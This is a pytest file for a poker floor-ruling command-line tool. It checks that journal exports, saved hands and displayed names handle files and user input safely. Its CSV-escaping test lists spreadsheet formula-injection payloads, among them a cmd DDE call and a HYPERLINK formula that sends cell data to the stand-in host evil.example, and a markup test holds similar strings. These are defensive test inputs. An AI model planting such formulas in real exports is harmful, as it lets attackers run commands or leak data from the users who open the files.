"""Files floorman writes and reads back (reliability audit 3, §3.6): the journal is never destroyed
by an export nor another program's database written into; exports and saved hands never replace a
file without a flag; CSV cells are never formulas; a journal in a read-only folder is read; a
ruling shown while the journal was locked is recorded once it is free; and names typed by people
(staff, trainee, players) are shown as typed, never read as rich markup.

Each test is named after the audit finding it covers and failed before the fix.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sqlite3
import subprocess
import threading
from pathlib import Path

import pytest
from cli_support import floorman
from typer.testing import CliRunner

from floorman.cli.app import app, sample_path
from floorman.journal import Journal, JournalError, close_all, record_ruling

ROOT = Path(__file__).resolve().parents[1]
BETTING = ROOT / "scenarios" / "betting" / "ymtc-1-silent-big-chip.yaml"
runner = CliRunner(env={"COLUMNS": "200", "NO_COLOR": "1"})


@pytest.fixture(autouse=True)
def _closed_after():
    yield
    close_all()


@pytest.fixture(scope="module")
def ruled():
    from floorman.engine.floor import Floor
    from floorman.scenarios import load_scenario, rules_for

    scenario = load_scenario(BETTING)
    floor = Floor()
    chosen, options = rules_for(scenario, floor.rulebook)
    situation = scenario.situation(chosen, options)
    return situation, floor.rule(situation).to_json()


def journal_with(path: Path, ruled, *staff: str | None) -> Path:
    situation, report_json = ruled
    for name in staff:
        entry_id, warning = record_ruling(report_json, command="rule", situation=situation, staff=name,
                                          journal_path=path)
        assert warning is None, warning
    close_all()
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def count(path: Path) -> int:
    with sqlite3.connect(str(path)) as connection:
        return connection.execute("SELECT count(*) FROM ruling").fetchone()[0]


# --- N4 / N23: exports never destroy the journal nor replace a file without --force ----------------

def test_n4_export_onto_the_journal_is_refused(tmp_path, ruled):
    journal = journal_with(tmp_path / "j.sqlite3", ruled, "Ann", "Bo", None)
    link = tmp_path / "same-file.sqlite3"
    os.link(journal, link)
    for output, extra in ((journal, ()), (journal, ("--force",)), (link, ("--force",))):
        run = floorman("journal", "export", "--journal", str(journal), "--format", "csv", "--output", str(output),
                       *extra, tmp=tmp_path)
        assert run.returncode == 1 and "the journal being read" in run.stderr, run.stderr
    assert count(journal) == 3
    with sqlite3.connect(str(journal)) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_n4_export_onto_any_database_or_its_log_is_refused(tmp_path, ruled):
    journal = journal_with(tmp_path / "j.sqlite3", ruled, "Ann")
    other = tmp_path / "shop.db"
    with sqlite3.connect(str(other)) as connection:
        connection.execute("CREATE TABLE customers (name TEXT)")
    before = digest(other)
    for target in (other, Path(str(journal) + "-wal")):
        result = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--output", str(target),
                                     "--force"])
        assert result.exit_code == 1 and "SQLite database" in result.output, result.output
    assert digest(other) == before


def test_n4_n23_an_existing_file_is_replaced_only_with_force_and_whole(tmp_path, ruled, monkeypatch):
    journal = journal_with(tmp_path / "j.sqlite3", ruled, "Ann", "Bo")
    output = tmp_path / "rulings.csv"
    output.write_text("my own notes\n", encoding="utf-8")
    refused = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--output", str(output)])
    assert refused.exit_code == 1 and "exists (--force replaces it)" in refused.output
    assert output.read_text(encoding="utf-8") == "my own notes\n"
    # an export that fails half way leaves the old file and no temporary file behind
    from floorman.journal import export as exporting

    def half(entries, stream, format):
        stream.write("id,recorded_at\n")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exporting, "export", half)
    failed = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--output", str(output), "--force"])
    assert failed.exit_code == 1 and "No space left" in failed.output
    assert output.read_text(encoding="utf-8") == "my own notes\n"
    monkeypatch.undo()
    done = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--output", str(output), "--force"])
    assert done.exit_code == 0, done.output
    assert len(list(csv.reader(io.StringIO(output.read_text(encoding="utf-8"))))) == 3
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_n23_export_does_not_make_folders_nor_write_to_a_device(tmp_path, ruled):
    journal = journal_with(tmp_path / "j.sqlite3", ruled, "Ann")
    for target, problem in ((tmp_path / "missing" / "x.csv", "does not exist"), (Path("/dev/null"), "not a plain file"),
                            (tmp_path, "folder")):
        result = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--output", str(target),
                                     "--force"])
        assert result.exit_code == 1 and problem in result.output, result.output
    assert not (tmp_path / "missing").exists()


def test_n23_save_at_the_table_never_replaces_a_file_nor_makes_a_folder(tmp_path):
    from floorman.session import TableSession

    session = TableSession()
    assert session.start("nl 2/5 cash 6 seats 500 button 6").ok
    assert session.enter("s3 raise 25").ok and session.enter("s4 chips 100 silent").ok
    target = tmp_path / "dispute.yaml"
    target.write_text("title: a scenario someone wrote\n", encoding="utf-8")
    refused = session.enter(f"save {target}")
    assert not refused.ok and f"`save {target} force` replaces it" in refused.error
    assert target.read_text(encoding="utf-8") == "title: a scenario someone wrote\n"
    assert session.enter(f"save {target} force").ok and "BET-OVERSIZED-CHIP-CALL" in target.read_text("utf-8")
    nested = tmp_path / "new-folder" / "x.yaml"
    refused = session.enter(f"save {nested}")
    assert not refused.ok and "does not exist" in refused.error and not nested.parent.exists()
    run = floorman("table", "--no-journal", "nl", "2/5", "cash", "6", "seats", "500", "button", "6", tmp=tmp_path,
                   input=f"s3 raise 25\ns4 chips 100 silent\nsave {target}\n")
    assert "replaces it" in " ".join(run.stdout.split()) and "BET-OVERSIZED-CHIP-CALL" in target.read_text("utf-8")


# --- N11: another program's database is never written into ------------------------------------------

@pytest.mark.parametrize("version", [1, 2, 5])
def test_n11_a_foreign_database_at_a_user_version_is_refused_and_untouched(tmp_path, ruled, version):
    path = tmp_path / "notes.db"
    with sqlite3.connect(str(path)) as connection:
        connection.execute(f"PRAGMA user_version = {version}")
        connection.execute("CREATE TABLE notes (x)")
        connection.execute("INSERT INTO notes VALUES ('keep me')")
    before = digest(path)
    with pytest.raises(JournalError, match="not a floorman journal"):
        Journal.open(path)
    situation, report_json = ruled
    entry_id, warning = record_ruling(report_json, command="rule", situation=situation, journal_path=path)
    assert entry_id is None and "not a floorman journal" in warning
    result = runner.invoke(app, ["journal", "list", "--journal", str(path)])
    assert result.exit_code == 1 and "not a floorman journal" in result.output
    close_all()
    assert digest(path) == before
    assert not Path(str(path) + "-wal").exists() and not Path(str(path) + "-shm").exists()


# --- N13: CSV cells a spreadsheet would run --------------------------------------------------------

def test_n13_csv_cells_that_start_a_formula_are_escaped(tmp_path, ruled):
    names = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
             "\tTab", "\rReturn", "Ann", "plain = fine"]
    journal = journal_with(tmp_path / "j.sqlite3", ruled, *names)
    result = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--format", "csv"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["staff"] for row in rows] == ["'" + name for name in names[:7]] + names[7:]
    for row in rows:              # the JSON columns still parse as JSON
        assert json.loads(row["rulings"])[0]["rule"] == "BET-OVERSIZED-CHIP-CALL"
        assert not row["recorded_at"].startswith("'")


# --- N21: a journal in a read-only folder is read -----------------------------------------------------

def _immutable(path: Path, on: bool) -> bool:
    """chattr +i/-i: read-only even for root. False where the file system does not have it."""
    done = subprocess.run(["chattr", "+i" if on else "-i", str(path)], capture_output=True)
    return done.returncode == 0


def test_n21_a_journal_in_a_read_only_folder_is_listed_and_exported(tmp_path, ruled):
    folder = tmp_path / "archive"
    folder.mkdir()
    journal = journal_with(folder / "j.sqlite3", ruled, "Ann", "Bo")
    if not _immutable(folder, True):
        pytest.skip("chattr +i is not available here")
    try:
        listed = runner.invoke(app, ["journal", "list", "--journal", str(journal)])
        exported = runner.invoke(app, ["journal", "export", "--journal", str(journal), "--format", "json"])
        shown = runner.invoke(app, ["journal", "show", "1", "--journal", str(journal)])
        situation, report_json = ruled
        _, warning = record_ruling(report_json, command="rule", situation=situation, journal_path=journal)
        close_all()
        stats = runner.invoke(app, ["quiz", "stats", "--journal", str(journal)])
    finally:
        _immutable(folder, False)
    assert listed.exit_code == 0 and "Ann" in listed.output and "2 shown of 2" in listed.output, listed.output
    assert exported.exit_code == 0 and [e["staff"] for e in json.loads(exported.stdout)] == ["Ann", "Bo"]
    assert shown.exit_code == 0 and "BET-OVERSIZED-CHIP-CALL" in shown.output
    assert warning and "writable" in warning            # writing there is still refused, and said
    assert stats.exit_code == 0, stats.output
    assert sorted(p.name for p in folder.iterdir()) == ["j.sqlite3"]


# --- N22: a ruling shown while the journal is locked is recorded once it is free -------------------------

def _holder(path: Path) -> sqlite3.Connection:
    holder = sqlite3.connect(str(path), isolation_level=None, check_same_thread=False)
    holder.execute("BEGIN EXCLUSIVE")
    return holder


def test_n22_rulings_shown_while_the_journal_is_locked_are_recorded_in_order_once_it_is_free(tmp_path, ruled):
    situation, report_json = ruled
    path = journal_with(tmp_path / "j.sqlite3", ruled, "first")
    holder = _holder(path)
    kept = [record_ruling(report_json, command="table", situation=situation, staff=name, journal_path=path)
            for name in ("kept 1", "kept 2")]
    assert all(entry is None and "kept" in warning for entry, warning in kept)
    holder.execute("COMMIT")
    entry_id, warning = record_ruling(report_json, command="table", situation=situation, staff="after",
                                      journal_path=path)
    assert warning is None and entry_id == 4
    with Journal.open(path, create=False) as book:
        rows = list(book.all())
    assert [row.staff for row in rows] == ["first", "kept 1", "kept 2", "after"]
    assert rows[1].recorded_at < rows[2].recorded_at < rows[3].recorded_at     # the time each was given


def test_n22_what_is_still_kept_when_the_process_ends_is_recorded_then(tmp_path, ruled):
    situation, report_json = ruled
    path = journal_with(tmp_path / "j.sqlite3", ruled, "first")
    holder = _holder(path)
    entry_id, warning = record_ruling(report_json, command="rule", situation=situation, staff="kept",
                                      journal_path=path)
    assert entry_id is None and "kept" in warning
    threading.Timer(1.5, lambda: holder.execute("COMMIT")).start()
    close_all()                      # the end of the process: waits for the lock, then records
    assert count(path) == 2


# --- N10: names are shown as typed, never as markup -------------------------------------------------------

MARKUP = ["[/dim]", "[/]x[bold]", "[/][bold]=cmd|calc!A0", "[link=http://evil.example]y"]


def test_n10_markup_in_a_staff_name_never_breaks_journal_list(tmp_path, ruled):
    journal = journal_with(tmp_path / "j.sqlite3", ruled, *MARKUP)
    listed = runner.invoke(app, ["journal", "list", "--journal", str(journal)])
    assert listed.exit_code == 0, listed.output
    for name in MARKUP[:2]:
        assert name in listed.output
    for name in MARKUP:
        filtered = runner.invoke(app, ["journal", "list", "--journal", str(journal), "--staff", name])
        assert filtered.exit_code == 0 and "1 shown of 4" in filtered.output, filtered.output
    shown = runner.invoke(app, ["journal", "show", "1", "--journal", str(journal)])
    assert shown.exit_code == 0 and "staff [/dim]" in shown.output


def test_n10_markup_in_a_trainee_name_never_breaks_the_quiz_nor_its_stats(tmp_path):
    journal = str(tmp_path / "j.sqlite3")
    run = floorman("quiz", "--seed", "7", "--count", "1", "--trainee", MARKUP[2], "--journal", journal,
                   tmp=tmp_path, input="a\n")
    assert run.returncode == 0 and "internal error" not in run.stderr, run.stderr
    assert f"Answers recorded for {MARKUP[2]}" in run.stdout
    for name in MARKUP[:2]:       # the same loop in process: quicker
        result = runner.invoke(app, ["quiz", "--seed", "7", "--count", "1", "--trainee", name, "--journal", journal],
                               input="a\n")
        assert result.exit_code == 0 and f"Answers recorded for {name}" in result.output, result.output
    stats = runner.invoke(app, ["quiz", "stats", "--journal", journal])
    assert stats.exit_code == 0 and all(name in stats.output for name in MARKUP[:3]), stats.output
    one = runner.invoke(app, ["quiz", "stats", "--trainee", "[/]", "--journal", journal])
    assert one.exit_code == 0 and "No quiz answers recorded for [/]" in one.output


def test_n10_markup_in_a_player_name_or_an_expectation_is_shown_as_written(tmp_path):
    history = tmp_path / "markup.phh"
    history.write_text(sample_path().read_text(encoding="utf-8").replace('"Tom Dwan"', '"[/dim]"')
                       .replace("Full Tilt Million", "[bold]Full Tilt Million"), encoding="utf-8")
    replayed = runner.invoke(app, ["replay", str(history)])
    assert replayed.exit_code == 0 and "[/dim]" in replayed.output and "[bold]Full Tilt" in replayed.output
    from rich.console import Console

    from floorman.checks.comparison import Row
    from floorman.cli.check_view import side_by_side

    class Result:
        path = "scenarios/[/]odd.yaml"
        problems = ["[/red] differs"]
        actual = None
        error = None

    import floorman.cli.check_view as check_view

    original = check_view.comparison_rows
    check_view.comparison_rows = lambda result: [Row("[/]rule", "[bold]X", "[/]", True)]
    try:
        console = Console(record=True, width=120, color_system=None)
        console.print(side_by_side(Result()))
    finally:
        check_view.comparison_rows = original
    text = console.export_text()
    assert "[/]odd.yaml" in text and "[bold]X" in text and "[/]rule" in text
